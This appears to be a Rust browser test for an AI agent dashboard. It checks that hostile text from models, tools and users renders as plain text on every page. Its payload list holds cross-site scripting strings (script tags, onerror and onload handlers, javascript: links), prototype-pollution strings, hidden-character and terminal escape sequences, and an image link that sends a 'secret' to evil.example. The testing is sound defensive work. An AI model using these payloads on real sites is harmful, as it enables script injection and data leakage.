//! Texts of models, tools and people that try to be more than text.

use callboard_browser::Look;
use serde_json::{Value, json};

use crate::stage::Stage;

/// What a text may try: markup, links that run code, requests to other hosts, ends of scripts,
/// characters that turn or hide text, terminal sequences, and names of prototypes.
const ATTEMPTS: &[&str] = &[
    "<script>globalThis.broken=1</script>",
    "<img src=x onerror='globalThis.broken=1'>",
    "</script></textarea></title><svg onload='globalThis.broken=1'>",
    "[click](javascript:globalThis.broken=1) [data](data:text/html,<script>1</script>)",
    "![picture](https://evil.example/?q=secret) https://evil.example/path",
    "\u{202e}reversed\u{2066}\u{200b}zero\u{feff} width",
    "\u{1b}[31mred\u{1b}]8;;https://evil.example\u{7}link",
    "__proto__ constructor {constructor.constructor('broken=1')()} ${broken=1}",
];

/// A text with all attempts.
fn hostile() -> String {
    marked(100)
}

/// A text with all attempts and a letter with many marks, each of which takes long to draw.
fn marked(marks: usize) -> String {
    let marks = "e".to_owned() + &"\u{301}".repeat(marks);
    format!("{}\n\n```\n<b>\n```\n{marks}\n{}", ATTEMPTS.join("\n\n"), "x".repeat(8_000))
}

/// A value that is deep, long and named after prototypes.
fn value() -> Value {
    let mut value = json!({"__proto__": {"broken": 1}, "n": 12_345_678_901_234_567_890_u64});
    for _ in 0..40 {
        value = json!([value]);
    }
    json!({"deep": value, "<b>": hostile()})
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_texts_are_shown_as_text() {
    let reply = json!({"text": hostile(), "thought": hostile(), "calls": [
        {"tool": "ask_user", "args": {"mode": "select", "prompt": ATTEMPTS.join(" "), "options": [ATTEMPTS[0], ATTEMPTS[1]]}},
    ]});
    let plan = json!({"title": hostile().chars().take(400).collect::<String>(), "steps": [
        {"id": "a", "title": ATTEMPTS[1], "description": hostile(), "tool": "echo", "args": {"value": value()}},
        {"id": "b", "title": ATTEMPTS[0], "description": ATTEMPTS[3], "depends_on": ["a"]},
    ]});
    let script = json!({"rules": [
        {"when": {"system": "You are a planner"}, "reply": {"raw": true, "json": plan}},
        {"when": {"offers": "ask_user"}, "reply": {"raw": true, "text": reply["text"], "thought": reply["thought"], "calls": reply["calls"]}},
    ]});
    let Some(stage) = Stage::playing(&script.to_string()).await else { return };
    let file = json!({"name": "<img src=x onerror=broken=1>.txt", "content": {"text": hostile()}});
    for (id, confirm) in [("check", true), ("runs", false)] {
        stage
            .submit(&json!({"id": id, "goal": marked(10_000), "confirm": confirm, "files": [file]}))
            .await;
        stage.until(id, "input-required").await;
    }
    let talk = json!({"id": "talk", "goal": hostile(), "confirm": true, "conversation": "talk", "labels": {"note": ATTEMPTS[0]}});
    stage.submit(&talk).await;
    stage.until("talk", "input-required").await;
    let about = Value::from(ATTEMPTS[..5].join(" "));
    stage.agent("hostile", &format!("extends: react\nabout: {about}\n# {}\n", ATTEMPTS[2])).await;
    let pages = [
        ("/jobs", ".job-row"),
        ("/inbox", ".ask-row"),
        ("/inbox?job=check&ask=q1", ".question"),
        ("/jobs/check", ".plan-list"),
        ("/jobs/runs", ".options"),
        ("/jobs/runs?step=a", ".panel"),
        ("/jobs/runs?tab=time", ".fall-row"),
        ("/jobs/runs?tab=said", ".say"),
        ("/jobs/runs?tab=log", ".log-row"),
        ("/jobs/runs?tab=log&log=records", ".log-row"),
        ("/jobs/runs?tab=agent", ".card"),
        ("/new?goal=%3Cscript%3Ebroken%3D1%3C%2Fscript%3E&agent=%3Cb%3E", "textarea.goal"),
        ("/jobs?q=%3Cimg%20src%3Dx%20onerror%3Dbroken%3D1%3E", "#filter"),
        ("/jobs/%3Cscript%3E", ".empty, .error-box"),
        ("/jobs/runs?tab=family", ".node, .family-list .step-row, .empty"),
        ("/jobs?show=attention", ".empty, .job-row"),
        ("/jobs?label=team%3D%3Cb%3E&agent=%3Cb%3E&parent=%3Cb%3E", ".chip.removable"),
        ("/chat", ".talk"),
        ("/chat/talk", ".card.ask"),
        ("/chat/%3Cimg%20src%3Dx%3E", "main"),
        ("/agents?name=hostile", ".two-main pre.block"),
        ("/agents?name=%3Cimg%20src%3Dx%3E", ".error-box"),
        ("/tools?name=%3Cimg%20src%3Dx%3E", ".item"),
        ("/crew", ".table"),
        ("/costs", ".bars-bar"),
        ("/costs?agent=%3Cimg%20src%3Dx%20onerror%3Dbroken%3D1%3E", ".empty, .error-box"),
        ("/health", ".finding"),
        ("/signin?to=javascript%3Abroken%3D1&error=%3Cimg%20src%3Dx%3E", "form"),
        ("/%3Cimg%20src%3Dx%20onerror%3Dbroken%3D1%3E", ".empty"),
    ];
    for look in [Look::default(), Look { dark: true, ..Look::phone() }] {
        let page = stage.browser.page(&look).await;
        for (path, complete) in pages {
            page.open(&stage.url(path)).await;
            page.find(complete, "").await;
            let broken: bool = page.value("'broken' in globalThis").await;
            assert!(!broken, "{path} ran a text");
            let made: Vec<String> = page
                .value("[...document.querySelectorAll('main img, main script, main iframe, main a[href^=\"javascript:\"], main a[href^=\"data:\"]')].map((el) => el.outerHTML)")
                .await;
            assert!(made.is_empty(), "{path} made elements of a text: {made:?}");
            page.is_clean(&stage.host).await;
        }
        page.close().await;
    }
}
